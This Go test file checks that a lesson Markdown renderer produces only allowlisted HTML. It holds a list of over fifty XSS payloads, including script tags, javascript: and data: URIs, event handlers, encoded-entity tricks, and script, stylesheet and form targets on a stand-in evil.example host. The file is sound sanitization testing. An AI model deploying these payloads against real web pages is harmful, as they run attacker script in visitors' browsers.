package catalog

import (
	"regexp"
	"strings"
	"testing"
)

func TestRenderLesson(t *testing.T) {
	tests := []struct {
		module, md, want string
	}{
		{"", "## Hi", "<h2>Hi</h2>\n"},
		{"", "[x](https://example.org)", `<p><a href="https://example.org" rel="noopener noreferrer">x</a></p>` + "\n"},
		{"", "[m](mailto:a@example.org)", `<p><a href="mailto:a@example.org" rel="noopener noreferrer">m</a></p>` + "\n"},
		{"", "[r](/about)", `<p><a href="/about" rel="noopener noreferrer">r</a></p>` + "\n"},
		{"", "www.example.org", `<p><a href="http://www.example.org" rel="noopener noreferrer">www.example.org</a></p>` + "\n"},
		{"", "~~old~~", "<p><del>old</del></p>\n"},
		{"", "| a | b |\n|---|---|\n| 1 | 2 |", "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n"},
		{"", "a <b>bold</b> move", "<p>a bold move</p>\n"},
		{"", "[next](lesson:b)", "<p>next</p>\n"}, // no module to resolve against
		{"mod", "[next](lesson:b)", `<p><a href="/modules/mod/lessons/b" rel="noopener noreferrer">next</a></p>` + "\n"},
		{"mod", "<lesson:b>", `<p><a href="/modules/mod/lessons/b" rel="noopener noreferrer">lesson:b</a></p>` + "\n"},
		{"mod", "[x](lesson:../../admin)", "<p>x</p>\n"},
		{"mod", "[x][r]\n\n[r]: lesson:b", `<p><a href="/modules/mod/lessons/b" rel="noopener noreferrer">x</a></p>` + "\n"},
	}
	for _, tt := range tests {
		if got := RenderLesson(tt.module, tt.md); got != tt.want {
			t.Errorf("RenderLesson(%q, %q) = %q, want %q", tt.module, tt.md, got, tt.want)
		}
	}
}

// xssVectors are Markdown bodies an author (or a compromised content pack)
// might use to run script in a learner's browser.
var xssVectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`[click](javascript:alert(1))`,
	`[click](JaVaScRiPt:alert(1))`,
	`[click](<javascript:alert(1)>)`,
	`[click](java&#x09;script:alert(1))`,
	`[click](&#106;avascript:alert(1))`,
	`[click](javascript&colon;alert(1))`,
	`[click](vbscript:msgbox(1))`,
	`[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![x](javascript:alert(1))`,
	`![x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+)`,
	`![x](data:image/png;base64,iVBORw0KGgo=)`,
	"[x]: javascript:alert(1)\n\n[y][x]",
	`<javascript:alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="&#x6A;avascript:alert(1)">x</a>`,
	`<a href="https://example.org" onclick="alert(1)">x</a>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<style>body{display:none}</style>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<img src="https://example.org/a.png" style="x:expression(alert(1))">`,
	`<form action="https://evil.example"><input name=p></form>`,
	`<button formaction=javascript:alert(1)>x</button>`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<object data="x.swf"></object>`,
	`<embed src="x.swf">`,
	`<video><source onerror=alert(1)></video>`,
	`<details open ontoggle=alert(1)>`,
	`<body onload=alert(1)>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<base href="https://evil.example/">`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	`<<script>script>alert(1)<</script>/script>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<!-- --><script>alert(1)</script>`,
	"- <script>alert(1)</script>\n- item",
	"> <img src=x onerror=alert(1)>",
	"```\n</code><script>alert(1)</script>\n```",
	"`<script>alert(1)</script>`",
	`[x](https://example.org "t\" onmouseover=\"alert(1)")`,
	`![x" onerror="alert(1)](https://example.org/a.png)`,
	`[x](https://example.org/"><script>alert(1)</script>)`,
	`<a href="lesson:b" onclick=alert(1)>x</a>`,
	`[x](lesson:b"onmouseover="alert(1))`,
	`<a href="https://example.org" target="_blank" rel="opener">x</a>`,
}

var (
	tagRE  = regexp.MustCompile(`<(/?)([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-z]+="[^"<>]*")*)\s*(/?)>`)
	attrRE = regexp.MustCompile(`([a-z]+)="([^"]*)"`)
	// allowedTags is what Markdown renders to; anything else got in.
	allowedTags = map[string]bool{
		"p": true, "h1": true, "h2": true, "h3": true, "h4": true, "h5": true, "h6": true,
		"a": true, "img": true, "strong": true, "em": true, "del": true, "code": true, "pre": true,
		"blockquote": true, "ul": true, "ol": true, "li": true, "hr": true, "br": true,
		"table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true,
	}
	allowedAttrs = map[string]bool{"href": true, "rel": true, "src": true, "alt": true, "title": true}
)

// unsafeHTML lists what is wrong with rendered HTML: a tag that is not
// allowed, an attribute that is not allowed, a link to anything but http,
// https, mailto or a relative URL, a link without rel="noopener
// noreferrer", or markup left outside tags. It is an allowlist, so a vector
// nobody thought of fails too.
func unsafeHTML(out string) []string {
	var bad []string
	rest := tagRE.ReplaceAllStringFunc(out, func(tag string) string {
		m := tagRE.FindStringSubmatch(tag)
		name := strings.ToLower(m[2])
		if !allowedTags[name] {
			bad = append(bad, "tag <"+name+">")
		}
		for _, a := range attrRE.FindAllStringSubmatch(m[3], -1) {
			key, val := a[1], strings.ToLower(a[2])
			if !allowedAttrs[key] {
				bad = append(bad, "attribute "+key)
			}
			if (key == "href" || key == "src") && !(strings.HasPrefix(val, "http://") || strings.HasPrefix(val, "https://") ||
				strings.HasPrefix(val, "mailto:") || strings.HasPrefix(val, "/") || !strings.Contains(val, ":")) {
				bad = append(bad, key+" "+a[2])
			}
		}
		if name == "a" && m[1] == "" && !strings.Contains(m[3], `rel="noopener noreferrer"`) {
			bad = append(bad, `link without rel="noopener noreferrer"`)
		}
		return ""
	})
	if strings.ContainsAny(rest, "<>") {
		bad = append(bad, "unescaped < or > outside allowed tags")
	}
	return bad
}

func TestRenderXSS(t *testing.T) {
	if len(xssVectors) < 30 {
		t.Fatalf("only %d XSS vectors, want at least 30", len(xssVectors))
	}
	for _, v := range xssVectors {
		for _, out := range []string{
			RenderMarkdown(v),
			RenderLesson("spot-the-scam", v),
			RenderLesson(`"><script>alert(1)</script>`, "[a](lesson:b) "+v),
		} {
			if bad := unsafeHTML(out); len(bad) > 0 {
				t.Errorf("RenderLesson(%q) = %q, unsafe: %s", v, out, strings.Join(bad, "; "))
			}
		}
	}
}

// TestUnsafeHTML makes sure the checker itself catches what it must.
func TestUnsafeHTML(t *testing.T) {
	bad := []string{
		`<script>alert(1)</script>`,
		`<img src="x" onerror="alert(1)">`,
		`<a href="javascript:alert(1)" rel="noopener noreferrer">x</a>`,
		`<a href="https://example.org">x</a>`,
		`<iframe src="https://example.org"></iframe>`,
		`<p style="color:red">x</p>`,
		`<img src=x onerror=alert(1)>`,
		`<img src="data:image/png;base64,AAAA">`,
	}
	for _, out := range bad {
		if len(unsafeHTML(out)) == 0 {
			t.Errorf("unsafeHTML(%q) = none, want a problem", out)
		}
	}
	if got := unsafeHTML(`<p><a href="/x" rel="noopener noreferrer">x</a> &lt;script&gt;</p>`); len(got) > 0 {
		t.Errorf("unsafeHTML(safe) = %v, want none", got)
	}
}
